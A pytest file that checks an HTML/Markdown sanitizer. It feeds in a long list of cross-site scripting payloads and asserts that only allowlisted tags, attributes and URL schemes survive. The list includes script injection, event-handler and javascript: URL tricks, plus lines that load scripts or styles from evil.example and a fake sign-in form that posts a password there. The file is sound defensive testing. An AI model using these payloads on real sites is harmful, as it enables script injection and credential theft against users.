"""Nothing executable comes out, whatever Markdown or HTML goes in; a second parser is the judge."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from justhtml import JustHTML

from app.content.rendering import render
from app.content.sanitizing import sanitized

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\n'alert(1)'>",
    "<img src=x:x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](\u0001javascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](ssh://evil.example) [y](magnet:?x) [z](bitcoin:x)",
    "![x](javascript:alert(1))",
    '![x](x.png "a\\" onerror=\\"alert(1)")',
    '![x" onerror="alert(1)](x.png)',
    "text {: onclick=alert(1) style=color:red id=main }",
    "## Heading {: onclick=alert(1) #q }",
    "[x](y.md){: onclick='alert(1)' target=_blank }",
    "[x](y.md){: href='javascript:alert(1)' }",
    "/// note | T\n    attrs: {onclick: alert(1), id: main}\nx\n///",
    "/// tab | <img src=x onerror=alert(1)>\nx\n///",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '??? note "<script>alert(1)</script>"\n    x',
    "!!! note onclick=alert(1)\n    x",
    "```<img src=x onerror=alert(1)>\ncode\n```",
    '```{.python onclick="alert(1)" #main style="x"}\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "Text[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div id=main class='topbar modal' name=body>x</div><a name=cookie id=getElementById>y</a>",
    "<video src=x onerror=alert(1)><audio autoplay src=x onplay=alert(1)>",
    "<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>",
    "<x-custom is=evil onclick=alert(1)>x</x-custom>",
    "<a href='//evil.example/x'>x</a> <a href='/\\evil.example'>y</a> [z](//evil.example)",
    "</div></main></body><script>alert(1)</script>",
    "<p><table><td><a href=javascript:alert(1)>x",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7}",
    "\x02wzxhzdk:0\x03 \x02amp\x03 <b>\x02wzxhzdk:1\x03",
]
TAGS = re.compile(
    "p|br|hr|h[2-6]|strong|em|b|i|u|s|del|ins|sub|sup|small|mark|code|kbd|samp|var|abbr|q|cite|blockquote|pre|ul|ol|li|dl|dt|dd|"
    "table|thead|tbody|tfoot|tr|th|td|caption|a|img|figure|figcaption|details|summary|div|section|span|bdi|bdo|time"
)
ATTRIBUTES = re.compile(
    "href|src|alt|title|class|id|lang|dir|colspan|rowspan|start|scope|tabindex|role|aria-label|data-variant|open|datetime"
)


def elements(html: str) -> Iterator[Any]:
    return iter(JustHTML(html, fragment=True, sanitize=False).query("*"))


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_input_comes_out_harmless(source: str) -> None:
    rendered = render(source, "en")
    for element in elements(rendered.html):
        assert TAGS.fullmatch(element.name), rendered.html
        for name, value in element.attrs.items():
            assert ATTRIBUTES.fullmatch(name), rendered.html
            if name in {"href", "src"}:
                address = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert ":" not in address.split("/")[0].split("#")[0].split("?")[0] or address.startswith(
                    ("http://", "https://", "mailto:", "tel:")
                ), rendered.html
                assert not address.startswith(("//", "/\\", "\\")), rendered.html
            if name == "id":
                assert re.match(r"(s|v|fn|fnref)-", value), "no id of the writer's choice"
            if name == "class":
                assert not {"topbar", "modal"} & set(value.split())


def test_there_are_enough_hostile_inputs_and_they_are_hostile() -> None:
    """Before sanitising, most of them are executable: otherwise the test above would prove nothing."""
    from markdown import Markdown

    raw = [Markdown(extensions=["attr_list", "admonition", "footnotes"]).convert(source).lower() for source in HOSTILE]
    dangerous = [
        h
        for h in raw
        if re.search(r"<(script|svg|iframe|object|embed|style|form|base|meta|link)|\son\w+\s*=|(javascript|data|vbscript):", h)
    ]
    assert len(HOSTILE) >= 40 and len(dangerous) >= 40


def test_text_that_looks_like_markup_stays_text() -> None:
    rendered = render("Type `<b>` or &lt;script&gt; here", "en")
    assert rendered.sections[0].text == "Type <b> or <script> here"
    assert "<script" not in rendered.html


def test_templates_are_not_evaluated() -> None:
    assert "{{ 7*7 }}" in render("{{ 7*7 }}", "en").html


@pytest.mark.parametrize("scheme", ["http://a.example", "https://a.example", "mailto:a@b.example", "tel:+4685550112"])
def test_the_four_schemes_come_through(scheme: str) -> None:
    assert f'href="{scheme}"' in render(f"[x]({scheme})", "en").html


@pytest.mark.parametrize(
    ("source", "kept", "dropped"),
    [
        ('<p dir="rtl" lang="he">x</p>', 'dir="rtl"', ""),
        ('<p dir="javascript" lang="en">x</p>', 'lang="en"', "javascript"),
        ('<p lang="x onload">x</p>', "<p>x</p>", "onload"),
        ('<table><tr><td colspan="3">x</td></tr></table>', 'colspan="3"', ""),
        ('<table><tr><td colspan="99999">x</td></tr></table>', "x</td>", "99999"),
        ('<table><tr><td rowspan="٣">x</td></tr></table>', "x</td>", "٣"),
        ('<p id="location" class="btn toast">x</p>', "x</p>", "location"),
    ],
)
def test_attributes_keep_only_what_makes_sense(source: str, kept: str, dropped: str) -> None:
    html = sanitized(source)
    assert kept in html
    assert not dropped or dropped not in html


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<p dir="ltr">x</p>', True),
        ('<p dir="auto">x</p>', True),
        ('<p dir="up">x</p>', False),
        ('<p lang="pt-BR">x</p>', True),
        ('<p lang="x y">x</p>', False),
        ('<ol start="9">x</ol>', True),
        ('<ol start="9999">x</ol>', False),
        ('<ol start="-1">x</ol>', False),
        ('<h2 id="s-fees">x</h2>', True),
        ('<h2 id="main">x</h2>', False),
        ('<div class="callout warn">x</div>', True),
        ('<div class="btn">x</div>', False),
        ('<img src="lock.svg">', True),
        ('<img src="//evil.example/x.png">', False),
        ('<img src="/\\evil.example/x.png">', False),
        ('<a href="/\t/evil.example">x</a>', False),
    ],
)
def test_an_attribute_stays_with_a_value_that_is_listed_and_goes_with_any_other(html: str, kept: bool) -> None:
    bare = re.sub(r" \w+=\"[^\"]*\"", "", html)
    assert sanitized(html).replace("\t", "") == (html if kept else bare)


@pytest.mark.parametrize(
    ("html", "left"),
    [
        ("<h1>x</h1>", "x"),
        ("<nav>x</nav>", "x"),
        ("<map><area>x</map>", "x"),
        ("<center>x</center>", "x"),
        *((f"a<{tag}>x</{tag}>", "a") for tag in ("iframe", "noscript", "title", "textarea", "svg", "math", "template", "select", "style", "object")),
        ('<div role="alert" tabindex="5">x</div>', "<div>x</div>"),
        ('<div role="region" tabindex="0">x</div>', '<div role="region" tabindex="0">x</div>'),
        ('<span role="img">x</span>', '<span role="img">x</span>'),
        ('<th scope="rowgroup">x</th>', "x"),
        ('<div class="highlight"><pre>x</pre></div>', '<div class="highlight"><pre tabindex="0">x</pre></div>'),
    ],
)  # fmt: skip
def test_only_listed_elements_and_values_stay_and_what_readers_were_not_to_see_goes_with_its_element(html: str, left: str) -> None:
    assert sorted(sanitized(html).replace(">", " ").split()) == sorted(left.replace(">", " ").split())
